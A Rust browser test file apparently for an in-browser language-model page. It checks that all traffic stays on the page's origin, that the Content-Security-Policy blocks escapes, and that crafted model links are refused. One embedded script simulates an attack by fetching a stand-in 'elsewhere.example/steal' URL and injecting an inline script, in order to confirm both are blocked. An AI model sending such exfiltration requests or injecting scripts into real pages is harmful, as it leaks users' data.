//! The locked-down page (issue "Hardening"): every request of the browser goes through a
//! recording proxy; the page, its worker and the model talk only to the page's origin (and to
//! the model URL the visitor chose); the Content-Security-Policy blocks other connections and
//! injected inline scripts.

use std::time::Duration;

use browser_tests::browser::{Browser, BrowserOptions};
use browser_tests::dist_dir;
use browser_tests::page::{click, load_model, set_capping, set_input};
use browser_tests::static_server::StaticServer;
use fantoccini::Locator;

const LOAD: Duration = Duration::from_secs(600);
const ANSWER: Duration = Duration::from_secs(600);
const BOOT: Duration = Duration::from_secs(60);

/// Chromium's own background services, which reach the proxy even with the quieting flags of
/// `BrowserOptions::proxy` (search-engine preconnect, component updates, account and time
/// lookups). They are the browser's, not the page's: the same list shows up for any page. Exact
/// hosts, so that anything else the page or its workers tried fails the test.
const BROWSER_BACKGROUND_HOSTS: [&str; 6] = [
    "start.duckduckgo.com",
    "update.googleapis.com",
    "accounts.google.com",
    "clients2.google.com",
    "content-autofill.googleapis.com",
    "optimizationguide-pa.googleapis.com",
];

/// The host a refused proxy request was for ("CONNECT h:443" or "GET http://h/…").
fn host_of(request: &str) -> String {
    let target = request.split_whitespace().nth(1).unwrap_or("");
    let authority = target
        .strip_prefix("http://")
        .map_or(target, |rest| rest.split('/').next().unwrap_or(""));
    authority.split(':').next().unwrap_or("").to_owned()
}

/// Foreign requests other than the browser's own background traffic.
fn from_the_page(server: &StaticServer) -> Vec<String> {
    server
        .foreign_requests()
        .into_iter()
        .filter(|r| !BROWSER_BACKGROUND_HOSTS.contains(&host_of(r).as_str()))
        .collect()
}

async fn proxied(server: &StaticServer) -> anyhow::Result<Browser> {
    Browser::launch(BrowserOptions {
        proxy: Some(server.addr),
        ..BrowserOptions::default()
    })
    .await
}

/// Tries what an injected script would: connect elsewhere, run an inline script. Returns what
/// got through, as JSON. (`eval` cannot be tested from here: WebDriver's own script runs with
/// the policy bypassed; `xtask`'s tests check that `script-src` has no `'unsafe-eval'`.)
const ESCAPE_ATTEMPTS: &str = r#"
const done = arguments[arguments.length - 1];
const out = { violations: [] };
document.addEventListener('securitypolicyviolation', e => out.violations.push(e.violatedDirective));
try { await fetch('https://elsewhere.example/steal?x=1'); out.fetched = true; } catch (e) { out.fetched = false; }
window.__injected = false;
const s = document.createElement('script'); s.textContent = 'window.__injected = true;';
document.body.appendChild(s);
await new Promise(r => setTimeout(r, 300));
out.injected = window.__injected;
out.policies = [...document.querySelectorAll('meta[http-equiv="Content-Security-Policy"]')].map(m => m.content);
done(out);
"#;

async fn try_to_escape(browser: &Browser) -> anyhow::Result<serde_json::Value> {
    let script = format!("(async () => {{ {ESCAPE_ATTEMPTS} }})();");
    Ok(browser.client.execute_async(&script, vec![]).await?)
}

#[tokio::test]
async fn loading_and_chatting_never_leave_the_origin_and_the_policy_blocks_escapes()
-> anyhow::Result<()> {
    let server = StaticServer::start(dist_dir())?;
    let browser = proxied(&server).await?;
    browser.client.goto(&server.url("/")).await?;
    load_model(&browser, "cpu", "quantized", LOAD).await?;
    set_capping(&browser, true).await?;
    set_input(&browser, "setting-max-tokens", "4").await?;
    browser
        .client
        .find(Locator::Css("[data-testid=composer-input]"))
        .await?
        .send_keys("Hello!")
        .await?;
    browser
        .client
        .find(Locator::Css("[data-testid=send]"))
        .await?
        .click()
        .await?;
    browser
        .wait_for_attr(
            "[data-testid=column-capped] [data-testid=message-assistant]",
            "data-streaming",
            ANSWER,
            |s| s == "false",
        )
        .await?;

    let escape = try_to_escape(&browser).await?;
    eprintln!("escape attempts: {escape}");
    assert_eq!(escape["fetched"], false, "{escape}");
    assert_eq!(escape["injected"], false, "{escape}");
    let policies = escape["policies"].as_array().cloned().unwrap_or_default();
    assert_eq!(
        policies.len(),
        2,
        "static policy + csp.js's narrowing: {escape}"
    );
    assert_eq!(policies[1], "connect-src 'self'", "{escape}");

    let own = server.requests();
    let foreign = from_the_page(&server);
    eprintln!("requests to the page's origin: {own:?}");
    eprintln!("the browser's own: {:?}", server.foreign_requests());
    assert!(foreign.is_empty(), "requests left the origin: {foreign:?}");
    let allowed = [
        "/",
        "/index.html",
        "/csp.js",
        "/boot-check.js",
        "/isolate.js",
        "/boot.js",
        "/style.css",
        "/worker.js",
        "/sw.js",
        "/assistant-axis-web.js",
        "/assistant-axis-web_bg.wasm",
        "/models/SmolLM2-135M-Instruct.Q4_1.gguf",
        "/axes/SmolLM2-135M-Instruct.Q4_1.axis.safetensors",
        "/favicon.ico",
    ];
    for line in &own {
        let path = line.split_whitespace().nth(1).unwrap_or("");
        let path = path.split(['?', '#']).next().unwrap_or("");
        // The threaded module and its thread pool's worker script (docs/threads.md).
        let threaded = path.starts_with("/threads/");
        assert!(
            allowed.contains(&path) || threaded,
            "unexpected request {line:?}"
        );
    }
    assert!(own.iter().any(|l| l.ends_with(".gguf")), "{own:?}");
    browser.close().await
}

#[tokio::test]
async fn a_chosen_model_url_is_the_only_other_origin_the_page_may_reach() -> anyhow::Result<()> {
    let server = StaticServer::start(dist_dir())?;
    let browser = proxied(&server).await?;
    browser
        .client
        .goto(&server.url("/?model=https://models.example/some/SmolLM2-135M-Instruct.Q4_1.gguf"))
        .await?;
    // The page checks the chosen model file (a HEAD request); the proxy refuses it.
    let state = browser
        .wait_for_attr("[data-testid=model-status]", "data-state", BOOT, |s| {
            s != "checking"
        })
        .await
        .unwrap_or_default();
    let escape = try_to_escape(&browser).await?;
    eprintln!("model status {state:?}; escape attempts: {escape}");
    assert_eq!(escape["fetched"], false, "{escape}");
    let policies = escape["policies"].as_array().cloned().unwrap_or_default();
    assert_eq!(
        policies.get(1).and_then(|p| p.as_str()),
        Some("connect-src 'self' https://models.example"),
        "{escape}"
    );
    let foreign = from_the_page(&server);
    assert!(
        foreign.iter().all(|r| r == "CONNECT models.example:443"),
        "only the chosen model's host may be contacted: {foreign:?}"
    );
    assert!(!foreign.is_empty(), "the page did try the chosen model URL");
    browser.close().await
}

/// The inference worker does the downloads, and a dedicated worker is not under the page's
/// `<meta>` policy: it applies the page's rule itself. A crafted link that asks for a model over
/// plain http from another site with `autoload=1` neither downloads by itself (the page asks
/// for a click) nor, after the click, gets past the worker's check; a `data:` model is refused
/// by the page's address check. No request leaves the page.
#[tokio::test]
async fn crafted_model_links_neither_autoload_nor_reach_other_sites() -> anyhow::Result<()> {
    let server = StaticServer::start(dist_dir())?;
    let browser = proxied(&server).await?;
    let http = "http://models.example/some/SmolLM2-135M-Instruct.Q4_1.gguf";
    let address = format!("/?model={}&autoload=1", urlencode(http));
    browser.client.goto(&server.url(&address)).await?;
    browser
        .wait_for_attr("[data-testid=notice]", "role", BOOT, |_| true)
        .await?;
    let said = browser.text_of("[data-testid=notice]").await?;
    assert!(
        said.contains("Nothing is downloaded until you press"),
        "{said}"
    );
    // Autoload would start once the WebGPU probe has answered; give it time to (not) happen.
    browser
        .wait_for_attr("[data-testid=webgpu-status]", "data-state", BOOT, |s| {
            s != "checking"
        })
        .await?;
    tokio::time::sleep(Duration::from_secs(3)).await;
    let state = browser
        .wait_for_attr("[data-testid=model-panel]", "data-state", BOOT, |_| true)
        .await?;
    assert_eq!(state, "idle", "a crafted link must not start the download");
    click(&browser, "load-model").await?;
    let state = browser
        .wait_for_attr("[data-testid=model-panel]", "data-state", LOAD, |s| {
            s == "failed" || s == "ready"
        })
        .await?;
    let message = browser.text_of("[data-testid=engine-status]").await?;
    eprintln!("{http}: {state}: {message}");
    assert_eq!(state, "failed", "{message}");
    assert!(message.contains("only over https://"), "{message}");

    let data = "data:application/octet-stream;base64,R0dVRg==";
    let address = format!("/?model={}&autoload=1", urlencode(data));
    browser.client.goto(&server.url(&address)).await?;
    browser
        .wait_for_attr("[data-testid=notice]", "role", BOOT, |_| true)
        .await?;
    let said = browser.text_of("[data-testid=notice]").await?;
    assert!(said.contains("asks for a model it cannot load"), "{said}");

    let foreign = from_the_page(&server);
    assert!(foreign.is_empty(), "requests left the origin: {foreign:?}");
    browser.close().await
}

/// Percent-encodes a query value (enough for URLs: reserved characters and `%`).
fn urlencode(value: &str) -> String {
    value
        .bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                (b as char).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect()
}
